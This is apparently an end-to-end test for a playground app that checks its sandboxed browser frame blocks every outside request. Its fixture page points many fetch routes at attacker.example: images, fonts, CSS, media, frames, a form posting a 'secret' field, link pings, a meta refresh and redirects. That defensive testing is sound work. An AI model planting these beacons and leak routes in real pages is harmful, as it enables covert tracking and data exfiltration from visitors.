/**
 * The browser frame is locked to the sandbox (issue 12): a shared playground
 * link whose pages try every kind of outside fetch (stylesheets, images, CSS
 * backgrounds, fonts, media, forms, frames, prefetch and preload, a meta
 * refresh, links, redirects) is opened and browsed in the frame, and not one
 * request leaves the site's own origin, the service worker's included.
 * Outside hosts are routed to a recorder, so nothing reaches a real network
 * even when the lock fails.
 */
import type { BrowserContext, Frame, Page } from 'playwright';
import { afterAll, beforeAll, expect, inject, test } from 'vitest';
import type { PlaygroundScenario } from '../../src/playground/playground-scenario';
import { shareUrl } from '../../src/playground/share';
import { isOwn, startPreview, type Preview } from './preview';

const WAIT = { timeout: 15_000 };
const OUT = 'http://attacker.example';

/** Everything a page can name that makes a browser fetch, each pointing outside. */
const LEAKY_PAGE = `<!doctype html>
<html>
<head>
<meta charset="utf-8">
<title>A shared page</title>
<link rel="stylesheet" href="/own.css">
<link rel="stylesheet" href="${OUT}/leak.css">
<link rel="prefetch" href="${OUT}/prefetch">
<link rel="preload" href="${OUT}/preload.css" as="style">
<link rel="preload" href="${OUT}/preload.woff2" as="font" crossorigin>
<link rel="modulepreload" href="${OUT}/preload.js">
<link rel="icon" href="${OUT}/favicon.ico">
<link rel="manifest" href="${OUT}/manifest.json">
<style>@import url(${OUT}/import.css);</style>
<style>
@font-face { font-family: Leak; src: url(${OUT}/font.woff2); }
body { background: url(${OUT}/background.png); font-family: Leak, serif; }
</style>
</head>
<body>
<h1>A shared page</h1>
<img src="${OUT}/beacon.gif" alt="">
<img srcset="${OUT}/srcset.png 1x" alt="">
<picture><source srcset="${OUT}/source.png"><img alt=""></picture>
<input type="image" src="${OUT}/input.png" alt="">
<svg width="10" height="10"><image href="${OUT}/svg-image.png" width="10" height="10"/></svg>
<video src="${OUT}/video.mp4" poster="${OUT}/poster.png" preload="auto"></video>
<audio src="${OUT}/audio.mp3" preload="auto"></audio>
<video preload="auto"><track kind="captions" src="${OUT}/track.vtt" default></video>
<iframe src="${OUT}/frame" title="outside"></iframe>
<embed src="${OUT}/embed">
<object data="${OUT}/object"></object>
<img src="/bounce.png" alt="">
<form action="${OUT}/form" method="post"><input name="secret" value="x"><button>Send the form</button></form>
<p><a href="${OUT}/link" ping="${OUT}/ping">Leave by a link</a></p>
<p><a href="${OUT}/top" target="_top">Leave the app</a></p>
<p><a href="${OUT}/popup" target="_blank">Leave in a new window</a></p>
<p><a href="/away">Leave by a redirect</a></p>
</body>
</html>
`;

/** A scenario whose one backend serves the page, a page that refreshes itself away, and redirects out. */
const SCENARIO: PlaygroundScenario = {
  title: 'A page that wants out',
  config: `events {}
http {
  server {
    listen 80;
    server_name example.com;
    location / {
      proxy_pass http://127.0.0.1:3000;
    }
  }
}
`,
  backends: {
    '127.0.0.1:3000': {
      name: 'site',
      routes: [
        { path: '/', headers: { 'Content-Type': 'text/html' }, body: LEAKY_PAGE },
        {
          path: '/own.css',
          headers: { 'Content-Type': 'text/css' },
          body: 'h1 { color: rgb(1, 2, 3); }',
        },
        {
          path: '/refresh.html',
          headers: { 'Content-Type': 'text/html' },
          body: `<!doctype html><meta http-equiv="refresh" content="1; url=${OUT}/refresh"><h1>Refreshing</h1>`,
        },
        // Scheme-relative: not an http:// address the worker would map into the sandbox.
        { path: '/away', status: 302, headers: { Location: '//attacker.example/redirect' } },
        { path: '/bounce.png', status: 302, headers: { Location: '//attacker.example/bounce' } },
      ],
    },
  },
  files: {},
  request: {
    method: 'GET',
    url: 'http://example.com/',
    headers: [],
    body: null,
    client: '127.0.0.1',
  },
};

let preview: Preview;
beforeAll(async () => {
  preview = await startPreview({ origin: inject('e2eOrigin') });
});
afterAll(() => preview?.stop());

/**
 * A watched context whose outside requests are answered here, recorded, and
 * never sent (`routed`), and which notes each request the browser's policy
 * stopped before sending it (`blocked`: Playwright still reports those as
 * requests, failed with `csp`).
 */
async function lockedContext(): Promise<{
  context: BrowserContext;
  routed: string[];
  blocked: Set<string>;
}> {
  const context = await preview.newContext();
  const routed: string[] = [];
  const blocked = new Set<string>();
  context.on('requestfailed', (request) => {
    if (request.failure()?.errorText === 'csp') blocked.add(request.url());
  });
  await context.route(
    (url) => !isOwn(url.href, preview.origin),
    (route) => {
      routed.push(route.request().url());
      return route.fulfill({ status: 200, contentType: 'text/plain', body: 'leaked' });
    },
  );
  return { context, routed, blocked };
}

/** Types `address` (`example.com/path`) into the frame view's address bar, goes there, and waits until the frame shows it. */
async function browse(page: Page, address: string): Promise<Frame> {
  const frameView = page.getByRole('region', { name: 'Browse through the proxy' });
  await frameView.getByRole('textbox', { name: 'Address' }).fill(address);
  await frameView.getByRole('button', { name: 'Go' }).click();
  const ending = `/${address}`;
  const frame = async () => (await frameView.locator('iframe').elementHandle())?.contentFrame();
  await expect
    .poll(async () => {
      const url = (await frame())?.url() ?? '';
      return url.includes('/sandbox/site/') && url.endsWith(ending);
    }, WAIT)
    .toBe(true);
  const shown = (await frame())!;
  await shown.waitForLoadState('load');
  return shown;
}

/** Time for whatever a page started (media, preloads, a refresh) to go out if it can. */
async function settle(page: Page): Promise<void> {
  await page.waitForLoadState('networkidle');
  await page.waitForTimeout(1500);
}

test('a shared page in the frame fetches nothing outside the site, however it tries', async () => {
  const { context, routed, blocked } = await lockedContext();
  const page = await context.newPage();
  await page.goto(shareUrl(SCENARIO, { href: `${preview.origin}/` }));
  await page.getByRole('heading', { level: 1, name: 'Playground' }).waitFor(WAIT);
  await page.locator('[data-runtime-mode="worker"]').first().waitFor(WAIT);
  const frameLocator = page.frameLocator('iframe[title^="The site as a browser sees it"]');

  // The page itself, with every subresource it names.
  await browse(page, 'example.com/');
  const heading = frameLocator.getByRole('heading', { name: 'A shared page' });
  await heading.waitFor(WAIT);
  // The lock holds the page to the site, not away from it: its own stylesheet comes through the proxy.
  await expect
    .poll(() => heading.evaluate((h) => getComputedStyle(h).color), WAIT)
    .toBe('rgb(1, 2, 3)');
  await settle(page);

  // A form the learner submits.
  await frameLocator.getByRole('button', { name: 'Send the form' }).click();
  await settle(page);

  // A page that refreshes itself to an outside address.
  await browse(page, 'example.com/refresh.html');
  await settle(page);

  // Each link the learner clicks, the page loaded afresh before each (a new query makes it a new address).
  // Last, the one that would take the app's own page away if it could.
  const links = [
    'Leave by a link',
    'Leave in a new window',
    'Leave by a redirect',
    'Leave the app',
  ];
  for (const [visit, name] of links.entries()) {
    const frame = await browse(page, `example.com/?visit=${visit}`);
    await frame.getByRole('link', { name }).click();
    await settle(page);
  }

  // Nothing reached the network, and every outside request the browser began, its policy stopped.
  expect(routed).toEqual([]);
  expect(preview.foreignRequests().filter((r) => !blocked.has(r.url))).toEqual([]);
  expect(context.pages()).toHaveLength(1);
  expect(page.url()).toContain(`${preview.origin}/#/playground`);
});
